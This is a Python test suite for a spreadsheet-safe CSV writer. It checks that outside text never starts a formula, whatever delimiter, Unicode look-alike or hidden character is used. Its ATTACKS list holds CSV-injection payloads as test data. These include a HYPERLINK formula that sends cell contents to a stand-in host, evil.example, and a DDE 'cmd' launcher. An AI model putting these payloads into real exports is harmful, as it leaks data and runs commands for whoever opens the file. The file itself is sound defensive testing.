"""CSV as spreadsheets read it: a text from outside begins no formula, whatever parts the cells."""

import csv
import io
import math
import unicodedata
from collections.abc import Callable, Iterable, Sequence
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from streams.spreadsheet import LONGEST, MARK, SIGNS, Cell, Spreadsheet, harmless

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Cầu Rào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r\n=1",
    "\ufeff=1",
    "\0=1",
    "\u202e=1",
    "  =1",
    "\u3000\u00a0=1",
    "\u200d=1",
    '"=1',
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "−1",
    "Rào;=1",
    'Rào; "=1',
    "Rào,=1",
    "Rào\n=1",
    "Rào\t=1",
    "Rào|=1",
    ';";"=1',
    ";",
    '";',
)
HOSTILE = st.text(st.sampled_from("=+-@＝−a1 ;,|\"'\t\r\n\0\ufeff\u202e\u200dđ")) | st.text()
ROWS = st.lists(st.tuples(HOSTILE, HOSTILE | st.floats() | st.integers(), HOSTILE), max_size=4)
DELIMITERS = (",", ";", "|", "\t")


def written(rows: Iterable[Iterable[Cell]], columns: Sequence[str] = ("a", "b", "c")) -> str:
    file = io.StringIO(newline="")
    sheet = Spreadsheet(file, columns)
    for row in rows:
        sheet.add(row)
    return file.getvalue()


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    file = io.StringIO(text.removeprefix(MARK), newline="")
    return list(csv.reader(file, delimiter=delimiter))


def begins_a_formula(cell: str) -> bool:
    """As an importer may see it that trims, and takes quotes away."""
    bare = cell.strip().strip('"\u200c\u200d \u3000\u00a0\ufeff\0').lstrip()
    return bare[:1] in tuple(SIGNS)


def formulas(write: Callable[[Any], str], rows: Any, delimiter: str) -> list[str]:
    cells = [cell for row in read(write(rows), delimiter) for cell in row]
    return [cell for cell in cells if begins_a_formula(cell)]


def plain(rows: Iterable[Iterable[Any]]) -> str:
    """The double: as the standard library writes it."""
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\r\n").writerows(rows)
    return file.getvalue()


@pytest.mark.parametrize("text", ATTACKS, ids=ascii)
def test_no_attack_that_is_known_begins_a_formula(text: str) -> None:
    rows = [("id", text, "end"), (text, text, text), ("id", -5.3, text)]
    for delimiter in DELIMITERS:
        assert set(formulas(written, rows, delimiter)) <= {"-5.3"}, delimiter


def test_control_as_the_library_writes_it_they_do() -> None:
    rows = [("id", text, "end") for text in ATTACKS]
    assert len(formulas(plain, rows, ",")) > 10
    assert formulas(plain, [("id", "Rào;=1", "end")], ";") == ["=1,end"]
    assert formulas(written, [("id", "Rào;=1", "end")], ";") == []


@given(ROWS)
@example([("id;", -5.3, ";"), (";", 1, '";')])
def test_no_cell_of_text_begins_a_formula_whatever_parts_them(rows: list[Any]) -> None:
    text = written(rows)
    for delimiter in DELIMITERS[1:]:
        cells = [cell for row in read(text, delimiter) for cell in row]
        assert [cell for cell in cells if begins_a_formula(cell)] == [], delimiter


@given(ROWS)
def test_it_reads_back_as_it_is_with_a_comma(rows: list[Any]) -> None:
    text = written(rows)
    assert text.startswith(MARK + '"a","b","c"\r\n')
    found = read(text)
    assert [len(row) for row in found] == [3] * (len(rows) + 1)
    for row, cells in zip(rows, found[1:], strict=True):
        for value, cell in zip(row, cells, strict=True):
            if isinstance(value, str):
                assert cell == harmless(value)
                assert not begins_a_formula(cell)
            elif math.isfinite(value):
                assert type(value)(cell) == value, "a number is one"
            else:
                assert cell == ""


@given(HOSTILE)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    once = harmless(text)
    assert harmless(once) == once
    obeyed = {one for one in once if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert obeyed <= {"\u200c", "\u200d"}, "which join letters"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Cầu Rào, làn 1 - trạm 2", "Cầu Rào, làn 1 - trạm 2"),
        ("a@b.vn", "a@b.vn"),
        ("cam-1", "cam-1"),
        ("=1", "'=1"),
        ("-5.3", "'-5.3"),
        ("x; +1", "x;' +1"),
        ("two\nlines", "two␊lines"),
        ("\u202eevil", "\\u202eevil"),
        ("", ""),
    ],
)
def test_text_is_shown_as_it_is_and_marked_where_it_has_to_be(text: str, cell: str) -> None:
    assert harmless(text) == cell


def test_whatever_unicode_takes_for_a_sign_is_one() -> None:
    meant = {
        character
        for character in map(chr, range(0x10000))
        if unicodedata.normalize("NFKC", character).startswith(("=", "+", "-", "@"))
    }
    assert meant | {"−"} == set(SIGNS)


def test_numbers_stay_numbers_and_what_is_not_there_is_empty() -> None:
    row: list[Cell] = [-5.3, +1e3, 1e20, math.nan, -math.inf, 7, True, False, None, ("a", "=b")]
    text = written([row], ["n"] * len(row))
    assert text.splitlines()[1] == '-5.3,1000.0,1e+20,"","",7,"true","false","","a,\' =b"'


def test_a_cell_has_no_more_than_a_spreadsheet_takes_for_one() -> None:
    long = "=;" * LONGEST
    assert len(harmless(long)) == LONGEST
    assert harmless(long).endswith("…")
    assert harmless("a" * (LONGEST - 1)) == "a" * (LONGEST - 1)
